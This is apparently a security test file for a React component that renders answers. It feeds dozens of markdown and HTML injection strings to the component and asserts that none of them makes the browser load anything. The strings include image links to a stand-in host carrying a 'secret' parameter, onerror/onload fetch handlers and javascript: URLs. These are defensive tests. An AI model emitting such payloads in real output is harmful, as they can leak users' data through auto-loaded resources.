import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { AnswerText } from './answer-text.tsx';

const OUT = 'https://canary.test/x?secret=1';
const ADDRESSES = [
  OUT,
  '//canary.test/x',
  'http://canary.test:8080/x',
  `https://canary.test/${'a'.repeat(200)}`,
  'data:image/svg+xml,<svg/onload=fetch(1)>',
  'javascript:fetch(1)',
  'blob:https://canary.test/1',
  '/api/me?x=1',
];
const CARRIERS = [
  ...ADDRESSES.flatMap((url) => [
    `![a](${url})`,
    `![a](<${url}>)`,
    `![a](${url} "t")`,
    `[![a](${url})](${url})`,
    `![a][r]\n\n[r]: ${url}`,
    `![r]\n\n[r]: ${url}`,
    `<img src="${url}">`,
    `<img srcset="${url} 2x">`,
    `<a href="#" style="background:url(${url})">x</a>`,
    `<div style="background-image:url('${url}')">x</div>`,
    `<svg><image href="${url}"/></svg>`,
  ]),
  ...[
    'iframe',
    'embed',
    'audio',
    'video',
    'source',
    'track',
    'script',
    'input type="image"',
    'frame',
  ].map((tag) => `<${tag} src="${OUT}"></${tag.split(' ')[0]}>`),
  `<link rel="stylesheet" href="${OUT}">`,
  `<link rel="prefetch" href="${OUT}">`,
  `<link rel="dns-prefetch" href="//canary.test">`,
  `<object data="${OUT}"></object>`,
  `<style>@import url(${OUT});</style>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<base href="${OUT}">`,
  `<form action="${OUT}"><button>go</button></form>`,
  `<video poster="${OUT}"></video>`,
  `<body background="${OUT}">`,
  `<table background="${OUT}"><tr><td>x`,
  `text[^1]\n\n[^1]: ![a](${OUT})`,
  `| a |\n|-|\n| ![a](${OUT}) |`,
  `<math href="${OUT}"><mi>x</mi></math>`,
  `<details ontoggle="fetch('${OUT}')" open>x</details>`,
  '<img src=x onerror=fetch(1)>',
  `&lt;img src="${OUT}"&gt;`,
  `\`<img src="${OUT}">\``,
];

/** Matches HTML that makes a browser load or run something without a click. */
const LOADS =
  /<(?:img|image|iframe|frame|embed|object|audio|video|source|track|script|link|style|meta|base|form|svg|math|input(?! type="checkbox"))\b|\s(?:src|srcset|poster|background|style|action|data|on\w+)=|href="(?!https?:|#)/i;
const html = (text: string) =>
  renderToStaticMarkup(<AnswerText text={text} citations={[]} onGo={() => undefined} />);
/** Text content is only text. */
const tags = (text: string): string =>
  html(text)
    .match(/<[a-z][^>]*>/gi)
    ?.join('') ?? '';

test('loads nothing from the addresses in an answer', () => {
  expect(CARRIERS.length).toBeGreaterThan(100);
  expect(
    CARRIERS.filter(
      (it) =>
        LOADS.test(tags(`Before. ${it} After.`)) || LOADS.test(tags(`Before.\n\n${it}\n\nAfter.`)),
    ),
  ).toEqual([]);
});

test('shows the target of a link, sends no referrer, and opens it only on a click', () => {
  expect(html(`[here](${OUT})`)).toContain('rel="noopener noreferrer nofollow"');
  expect(html(`[here](${OUT})`)).toContain('(canary.test)');
});

test('follows the writing direction of each block, and shows code left to right', () => {
  expect(tags('شرح قصير\n\n- نقطة\n\n```\ncode\n```').match(/<(?:p|ul|li|pre)[^>]*>/g)).toEqual([
    '<p dir="auto">',
    '<ul dir="auto">',
    '<li>',
    '<pre dir="ltr">',
  ]);
});
